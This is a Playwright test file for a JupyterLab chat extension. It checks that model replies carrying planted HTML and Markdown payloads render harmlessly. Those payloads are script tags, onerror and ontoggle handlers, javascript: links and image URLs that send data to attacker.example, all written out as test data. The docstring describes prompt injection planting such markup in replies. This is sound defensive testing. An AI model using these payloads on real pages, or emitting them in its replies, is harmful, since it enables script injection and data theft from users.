"""Hostile replies in a real browser: JupyterLab 4 renders them, and nothing runs or leaks.

A reply can carry what a prompt injection planted: HTML with event handlers,
scripts, `javascript:` links, and Markdown images whose URL carries data away.
The mock server's `reply=verbatim` model repeats such a text; it goes through a
streamed cell, a `--no-stream` cell, a two-model comparison, a long paragraph
(whose head streams as HTML) and the panel. Each payload sets its own flag on
`window` if it ever runs. After hovering every link and clicking every link and
summary, no flag is set and the browser asked no host but 127.0.0.1 for
anything. Then the notebook is saved, trusted as its owner would (`jupyter
trust`), reloaded, and checked again; the saved file itself is checked too.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path

from ..test_sanitize import RENDERERS, _problems
from .lab import chromium_page, jupyterlab, open_notebook, run_cells, save_trust_reload


def _flag(name: str) -> str:
    return f"window.nbchat_pwned_{name}=1"


HOSTILE = "\n\n".join(
    [
        f"Intro <img src=x onerror={_flag('img')}> and <IMG/SRC=x OnError={_flag('img2')}>.",
        f"<script>{_flag('script')}</script>",
        f'<a onmouseover="{_flag("hover")}" href="#">hover here</a>',
        f'<svg><animate onbegin="{_flag("svg")}" attributeName="x" dur="1s"></animate></svg>',
        f'<details open ontoggle="{_flag("details")}"><summary>open me</summary>inside</details>',
        f"[click me](javascript:{_flag('jslink')}) and [entity](javascript&colon;{_flag('ent')})",
        f'<a href="javascript:{_flag("jsa")}">click too</a>',
        f'<iframe srcdoc="<script>parent.{_flag("iframe")}</script>"></iframe>',
        "![chart](http://attacker.example/collect?d=secret)",
        '<img src="http://attacker.example/pixel.png">',
        "Normal **bold words**, `inline code`, $x^2 < y$ and a [safe link](https://example.org/ok).",
        "<details><summary>Formatting tags</summary>H<sub>2</sub>O <kbd>Ctrl</kbd></details>",
        "```python\nprint('<b>not bold</b>')\n```",
    ]
)
WORDS = " ".join(["lorem"] * 500)
LONG = f"{WORDS} <img src=x onerror={_flag('late')}> late {WORDS} end."
PANEL_MODEL = "gpt-4o-mini@reply=verbatim,chunks=80,delay=0.01"
CELLS = [
    "%load_ext nbchat",
    f"%%chat -m gpt-4o-mini@reply=verbatim,chunks=150,delay=0.01\n{HOSTILE}",
    f"%%chat --no-stream -m gpt-4o-mini@reply=verbatim\n{HOSTILE}",
    f"%%chat -m gpt-4o-mini@reply=verbatim,chunks=60,gpt-4o@reply=verbatim,chunks=90\n{HOSTILE}",
    f"%%chat -m gpt-4o-mini@reply=verbatim,chunks=500,delay=0.004\n{LONG}",
    f"%config ChatMagics.model = {PANEL_MODEL!r}\n%chat panel",
]
#: Elements and attributes of the payloads, had any become live markup.
PLANTED = (
    "script, iframe, img, animate, [onerror], [onmouseover], [ontoggle], [onbegin],"
    " a[href^='javascript' i], a[href^='data' i]"
)
FLAGS = "() => Object.keys(window).filter(k => k.startsWith('nbchat_pwned'))"


def test_hostile_replies_run_nothing_in_jupyterlab(server, tmp_path: Path) -> None:
    from playwright.sync_api import expect, sync_playwright

    shots = Path(os.environ.get("NBCHAT_SCREENSHOTS") or tmp_path / "screenshots")
    shots.mkdir(parents=True, exist_ok=True)
    outside: list[str] = []  # every request for a host other than this machine
    with (
        jupyterlab(server, tmp_path, "hostile.ipynb", CELLS) as url,
        sync_playwright() as pw,
        chromium_page(pw, expect, outside) as page,
    ):
        try:
            open_notebook(page, expect, url)
            run_cells(page, expect, len(CELLS))
            outputs = page.locator(".jp-Notebook .jp-OutputArea")
            expect(outputs.nth(4)).to_contain_text("late")
            panel = page.locator(".nbchat-panel")
            prompt = panel.locator("textarea.nbchat-prompt")
            prompt.fill(HOSTILE)
            prompt.press("Enter")
            expect(prompt).to_have_value("")
            # cells 1, 2 and 4 made turns (a comparison makes none); the panel adds the 4th
            expect(panel.locator(".nbchat-totals")).to_contain_text("this conversation: 4 turns")
            expect(panel.locator(".nbchat-turn").last).to_contain_text("bold words")
            for n in (1, 3):
                outputs.nth(n).screenshot(path=str(shots / f"hostile-cell-{n}.png"))
            panel.screenshot(path=str(shots / "hostile-panel.png"))
            _poke_everything(page)
            assert page.evaluate(FLAGS) == [], "a payload ran in the live session"
            assert outside == [], f"the browser asked another host: {outside}"
            _shows_the_words_and_the_formatting(page, expect)

            saved = save_trust_reload(page, expect, server, tmp_path, "hostile.ipynb")
            _saved_file_is_inert(saved)
            expect(outputs.nth(1)).to_contain_text("bold words")
            outputs.nth(1).screenshot(path=str(shots / "hostile-reopened.png"))
            _poke_everything(page)
            assert page.evaluate(FLAGS) == [], "a payload ran in the trusted, reopened notebook"
            assert outside == [], f"the browser asked another host: {outside}"
            _shows_the_words_and_the_formatting(page, expect)
        finally:
            page.screenshot(path=str(shots / "hostile-last.png"))
            for shot in sorted(shots.glob("hostile*.png")):
                print(f"screenshot: {shot}")


def _shows_the_words_and_the_formatting(page, expect) -> None:
    """What the model said stays readable; Markdown still renders as Markdown."""
    streamed = page.locator(".jp-Notebook .jp-OutputArea").nth(1)
    for words in ("onerror", "hover here", "javascript:", "image “chart” from attacker.example"):
        expect(streamed).to_contain_text(words)
    expect(streamed.locator("strong", has_text="bold words")).to_have_count(1)
    expect(streamed.locator("code", has_text="inline code")).to_have_count(1)
    expect(streamed.locator("a[href='https://example.org/ok']")).to_have_count(1)
    expect(streamed.locator("sub", has_text="2")).to_have_count(1)
    expect(streamed.locator("pre", has_text="print('<b>not bold</b>')")).to_have_count(1)
    expect(streamed.locator("mjx-container").first).to_be_visible()  # $x^2 < y$ typeset
    expect(page.locator(".jp-Notebook .jp-OutputArea img")).to_have_count(0)


def _poke_everything(page) -> None:
    """Hover every link, click every non-web link and every summary, as a curious user."""
    area = page.locator(".jp-Notebook .jp-OutputArea, .nbchat-panel")
    links = area.locator("a")
    for i in range(links.count()):
        link = links.nth(i)
        if not link.is_visible():
            continue
        link.hover()
        href = link.get_attribute("href") or ""
        if not href.startswith(("http://", "https://", "mailto:")):
            link.click(no_wait_after=True)
    summaries = area.locator("summary")
    for i in range(summaries.count()):
        if summaries.nth(i).is_visible():
            summaries.nth(i).click()
    planted = area.locator(PLANTED)
    found = [planted.nth(i).evaluate("e => e.outerHTML") for i in range(min(planted.count(), 3))]
    assert not found, f"live markup from a reply: {found}"


def saved_outputs_inert(path: Path, ours: Callable[[str], str] = str) -> tuple[int, int]:
    """Check every saved output of a notebook file: its Markdown rendered by both libraries
    and its HTML (less nbchat's own markup, `ours`) hold nothing live; (Markdown, HTML) counts."""
    notebook = json.loads(path.read_text())
    markdown = html = 0
    for cell in notebook["cells"]:
        for output in cell.get("outputs", []):
            data = output.get("data", {})
            if "text/markdown" in data:
                source = "".join(data["text/markdown"])
                for name, render in RENDERERS.items():
                    assert not _problems(render(source)), (name, source)
                markdown += 1
            if "text/html" in data:
                assert not _problems(ours("".join(data["text/html"])))
                html += 1
    return markdown, html


def _saved_file_is_inert(path: Path) -> None:
    assert saved_outputs_inert(path)[0] >= 4, "the replies' Markdown was saved"
